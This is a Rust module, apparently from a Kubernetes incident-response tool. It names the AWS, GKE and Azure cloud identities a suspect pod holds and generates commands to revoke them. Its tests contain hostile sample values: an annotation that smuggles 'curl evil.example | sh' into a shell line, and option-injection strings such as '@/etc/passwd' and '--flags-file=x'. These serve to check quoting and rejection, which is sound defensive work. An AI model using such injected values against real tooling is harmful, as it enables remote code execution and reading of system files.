//! Whom the suspect is to a cloud: roles that its service account stands for there, by the annotations and
//! variables that the clouds' own webhooks and agents read.
//!
//! Sources: EKS user guide ("IAM roles for service accounts", "EKS Pod Identities"), GKE documentation ("Workload
//! Identity Federation for GKE"), Azure Workload Identity documentation ("Service account labels and annotations").

use std::collections::BTreeSet;

use k8s_openapi::api::core::v1::{Pod, ServiceAccount};

use super::quoted;
use crate::resources::Credential;

const AWS_ROLE: &str = "eks.amazonaws.com/role-arn";
const GOOGLE_ACCOUNT: &str = "iam.gke.io/gcp-service-account";
const AZURE_CLIENT: &str = "azure.workload.identity/client-id";

/// What the webhooks of EKS and Azure put into a pod when it is made: it stays when the annotation goes.
const AWS_ROLE_VARIABLE: &str = "AWS_ROLE_ARN";
const AZURE_CLIENT_VARIABLE: &str = "AZURE_CLIENT_ID";

/// What EKS puts into pods whose account has a Pod Identity association, of which the Kubernetes API knows nothing else.
const POD_IDENTITY_VARIABLE: &str = "AWS_CONTAINER_CREDENTIALS_FULL_URI";
const POD_IDENTITY_AGENTS: [&str; 2] = ["http://169.254.170.23/", "http://[fd00:ec2::23]/"];
const POD_IDENTITY_AUDIENCE: &str = "pods.eks.amazonaws.com";

/// The identities of a pod whose service account is `account`, if that was there.
pub(super) fn identities(
    pod: &Pod,
    (namespace, name): (&str, &str),
    account: Option<&ServiceAccount>,
) -> Vec<Credential> {
    let annotated = |key: &str| {
        let annotations = account?.metadata.annotations.as_ref()?;
        annotations
            .get(key)
            .filter(|value| !value.is_empty())
            .cloned()
    };
    let both = |key: &str, variable: &str| -> BTreeSet<String> {
        let set = variables(pod, variable);
        annotated(key)
            .into_iter()
            .chain(set.map(str::to_owned))
            .collect()
    };
    let mut found: Vec<Credential> = Vec::new();
    found.extend(
        both(AWS_ROLE, AWS_ROLE_VARIABLE)
            .iter()
            .map(|role| aws_role(role)),
    );
    if has_pod_identity(pod) {
        found.push(aws_association(namespace, name));
    }
    let google = annotated(GOOGLE_ACCOUNT);
    found.extend(google.map(|account| google_account(&account, namespace, name)));
    let azure = both(AZURE_CLIENT, AZURE_CLIENT_VARIABLE);
    found.extend(
        azure
            .iter()
            .map(|client| azure_client(client, namespace, name)),
    );
    found
}

fn aws_role(role: &str) -> Credential {
    // arn:aws:iam::123456789012:role/path/name
    let name = role.rsplit('/').next().unwrap_or(role);
    let policy = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Action":["*"],"Resource":["*"],"Condition":{"DateLessThan":{"aws:TokenIssueTime":"NOW"}}}]}"#;
    Credential {
        kind: "CloudIdentity".into(),
        name: role.to_owned(),
        grants: "what this AWS IAM role may: a token of the account is exchanged for keys of the role, and keys that the \
                 suspect has are valid until they end, also when its pod is gone"
            .into(),
        revoke: command(name, |name| format!(
            "aws iam put-role-policy --role-name {name} --policy-name AWSRevokeOlderSessions --policy-document '{policy}'  \
             # NOW: the present time, as 2026-01-31T03:04:05Z; it ends the sessions of all who have the role. So that no \
             new one begins, take the account out of the role's trust policy (aws iam update-assume-role-policy)"
        )),
    }
}

fn aws_association(namespace: &str, account: &str) -> Credential {
    let of = format!(
        "--namespace {} --service-account {}",
        quoted(namespace),
        quoted(account)
    );
    Credential {
        kind: "CloudIdentity".into(),
        name: format!("{namespace}/{account}"),
        grants: "what the AWS IAM role of the account's EKS Pod Identity association may; which one that is, EKS alone \
                 knows. Keys that the suspect has are valid until they end, also when its pod is gone"
            .into(),
        revoke: format!(
            "aws eks list-pod-identity-associations --cluster-name CLUSTER {of}, then: aws eks \
             delete-pod-identity-association --cluster-name CLUSTER --association-id ID  # takes it from every pod of \
             the account too"
        ),
    }
}

fn google_account(email: &str, namespace: &str, account: &str) -> Credential {
    let member = quoted(&format!(
        "serviceAccount:PROJECT.svc.id.goog[{namespace}/{account}]"
    ));
    Credential {
        kind: "CloudIdentity".into(),
        name: email.to_owned(),
        grants: "what this Google Cloud service account may; tokens that the suspect has are valid until they end, also \
                 when its pod is gone"
            .into(),
        revoke: command(email, |shown| format!(
            "gcloud iam service-accounts remove-iam-policy-binding {shown} --role roles/iam.workloadIdentityUser \
             --member {member}  # PROJECT: the cluster's; takes it from every pod of the account too. At once, and from \
             all who use it: gcloud iam service-accounts disable {shown}"
        )),
    }
}

fn azure_client(client: &str, namespace: &str, account: &str) -> Credential {
    Credential {
        kind: "CloudIdentity".into(),
        name: client.to_owned(),
        grants: "what this Azure application or managed identity (client id) may; tokens that the suspect has are valid \
                 until they end, also when its pod is gone"
            .into(),
        revoke: command(client, |shown| format!(
            "delete its federated credential with the subject system:serviceaccount:{namespace}:{account}: of an \
             application az ad app federated-credential list --id {shown}, then: az ad app federated-credential delete \
             --id {shown} --federated-credential-id ID; of a managed identity az identity federated-credential delete  \
             # takes it from every pod of the account too"
        )),
    }
}

/// The command about an identity; none if its name would be an option to the cloud's tool, or a file to be read.
fn command(name: &str, about: impl FnOnce(&str) -> String) -> String {
    let shown = quoted(name);
    match name.starts_with(['-', '@']) {
        true => format!(
            "no command: {shown} is not what the cloud calls an identity; see who set it, and why"
        ),
        false => about(&shown),
    }
}

fn has_pod_identity(pod: &Pod) -> bool {
    let mut addresses = variables(pod, POD_IDENTITY_VARIABLE);
    let by_agent = |address: &str| {
        let mut agents = POD_IDENTITY_AGENTS.iter();
        agents.any(|agent| address.starts_with(agent))
    };
    let mut tokens = super::projected(pod);
    addresses.any(by_agent)
        || tokens.any(|token| token.audience.as_deref() == Some(POD_IDENTITY_AUDIENCE))
}

/// What the pod's containers have in an environment variable of this name.
fn variables<'p>(pod: &'p Pod, name: &'p str) -> impl Iterator<Item = &'p str> {
    let of_all = super::environments(pod).flat_map(|(single, _)| single.into_iter().flatten());
    let of_name = of_all.filter(move |variable| variable.name == name);
    of_name.filter_map(|variable| variable.value.as_deref().filter(|value| !value.is_empty()))
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;

    fn found(pod: Value, annotations: Value) -> Vec<Credential> {
        let pod: Pod = serde_json::from_value(json!({ "spec": pod })).unwrap();
        let account: ServiceAccount =
            serde_json::from_value(json!({ "metadata": { "annotations": annotations } })).unwrap();
        identities(&pod, ("shop", "web"), Some(&account))
    }

    fn one(found: Vec<Credential>, name: &str) -> Credential {
        let mut found = found.into_iter();
        let (one, more) = (found.next().unwrap(), found.next());
        assert_eq!(more, None);
        assert_eq!(
            (one.kind.as_str(), one.name.as_str()),
            ("CloudIdentity", name)
        );
        one
    }

    fn with(variable: &str, value: &str) -> Value {
        json!({ "containers": [{ "name": "c", "env": [{ "name": variable, "value": value }] }] })
    }

    #[test]
    fn every_clouds_identity_is_named_with_what_takes_it_away() {
        let nothing = json!({ "containers": [{ "name": "c" }] });
        let role = "arn:aws:iam::123456789012:role/shop/web";
        let google = "web@shop-1.iam.gserviceaccount.com";
        let client = "8d9a0c5e-1f2b-4d3c-9e8f-0a1b2c3d4e5f";
        for (annotation, value, command) in [
            (
                AWS_ROLE,
                role,
                "aws iam put-role-policy --role-name web --policy-name ",
            ),
            (
                GOOGLE_ACCOUNT,
                google,
                "--member 'serviceAccount:PROJECT.svc.id.goog[shop/web]'",
            ),
            (
                AZURE_CLIENT,
                client,
                "subject system:serviceaccount:shop:web",
            ),
        ] {
            let found = one(found(nothing.clone(), json!({ annotation: value })), value);
            assert!(found.revoke.contains(command), "{found:#?}");
        }
        assert_eq!(
            found(nothing.clone(), json!({ AWS_ROLE: "", "other": "x" })),
            []
        );
        assert_eq!(found(nothing, Value::Null), []);
    }

    #[test]
    fn an_identity_that_the_pod_was_given_is_named_also_when_the_annotation_is_another_by_now() {
        let role = "arn:aws:iam::123456789012:role/web";
        let pod = with(AWS_ROLE_VARIABLE, role);
        one(found(pod.clone(), Value::Null), role);
        one(found(pod.clone(), json!({ AWS_ROLE: role })), role);
        let both = found(
            pod,
            json!({ AWS_ROLE: "arn:aws:iam::123456789012:role/other" }),
        );
        assert_eq!(both.len(), 2, "{both:#?}");
        one(found(with(AZURE_CLIENT_VARIABLE, "id"), Value::Null), "id");
    }

    #[test]
    fn an_eks_pod_identity_association_is_told_by_what_it_puts_into_the_pod() {
        let token = json!({ "containers": [], "volumes": [{ "name": "eks-pod-identity-token", "projected": { "sources": [
            { "serviceAccountToken": { "audience": POD_IDENTITY_AUDIENCE, "path": "token" } } ] } }] });
        for pod in [
            with(
                POD_IDENTITY_VARIABLE,
                "http://169.254.170.23/v1/credentials",
            ),
            with(
                POD_IDENTITY_VARIABLE,
                "http://[fd00:ec2::23]/v1/credentials",
            ),
            token,
        ] {
            let found = one(found(pod, Value::Null), "shop/web");
            assert!(found.revoke.contains("--service-account web"), "{found:#?}");
        }
        // That of an ECS task, which says nothing of EKS.
        let other = with(POD_IDENTITY_VARIABLE, "http://169.254.170.2/v2/credentials");
        assert_eq!(found(other, Value::Null), []);
    }

    #[test]
    fn an_identity_that_would_be_an_option_is_in_no_command() {
        for (annotation, hostile) in [
            (AWS_ROLE, "arn:aws:iam::123456789012:role/--debug"),
            (GOOGLE_ACCOUNT, "--flags-file=x"),
            (AZURE_CLIENT, "--debug"),
            (AZURE_CLIENT, "@/etc/passwd"),
        ] {
            let found = found(json!({ "containers": [] }), json!({ annotation: hostile }));
            let said = one(found, hostile).revoke;
            assert!(said.starts_with("no command: "), "{said}");
            for tool in ["gcloud", "aws iam", "az ad"] {
                assert!(!said.contains(tool), "{said}");
            }
        }
    }

    #[test]
    fn what_an_annotation_holds_is_no_command_of_its_own() {
        let hostile = "x'; curl evil.example | sh #";
        for annotation in [AWS_ROLE, GOOGLE_ACCOUNT, AZURE_CLIENT] {
            let found = found(json!({ "containers": [] }), json!({ annotation: hostile }));
            let said = &found[0].revoke;
            assert!(
                said.contains(r"'x'\''; curl evil.example | sh #'"),
                "{said}"
            );
            assert!(
                !said
                    .replace(r"'x'\''; curl evil.example | sh #'", "")
                    .contains("curl"),
                "{said}"
            );
        }
    }
}
